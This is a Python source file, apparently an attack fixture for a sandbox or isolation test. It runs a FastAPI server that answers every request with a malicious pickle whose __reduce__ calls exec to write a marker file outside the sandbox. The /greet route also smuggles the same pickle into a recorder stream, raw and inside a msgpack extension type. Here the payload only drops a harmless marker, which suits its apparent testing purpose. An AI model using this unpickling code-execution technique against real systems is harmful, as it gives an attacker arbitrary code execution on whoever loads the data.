"""Attack: answer with pickles that would write to a file, wherever something might load them."""

import pickle

import msgpack
from fastapi import FastAPI, Response

from .targets import OUTSIDE, acted


class Harm:
    def __reduce__(self):
        return (exec, (f"open({OUTSIDE + '/unpickled'!r}, 'w').write('unpickled')",))


payload = pickle.dumps(Harm())
app = FastAPI()


@app.get("/greet/{name}")
async def greet(name: str):
    import sys

    acted("greeting")
    stream = sys.stdout.buffer._recorder.frames.stream
    stream.sendall(msgpack.packb({"kind": "log", "message": msgpack.ExtType(1, payload)}))
    stream.sendall(payload)


@app.api_route("/{path:path}", methods=["GET", "POST"])
async def answer(path: str):
    acted("request")
    return Response(payload, 200, {"x-state": payload.hex()}, "application/x-python-pickle")
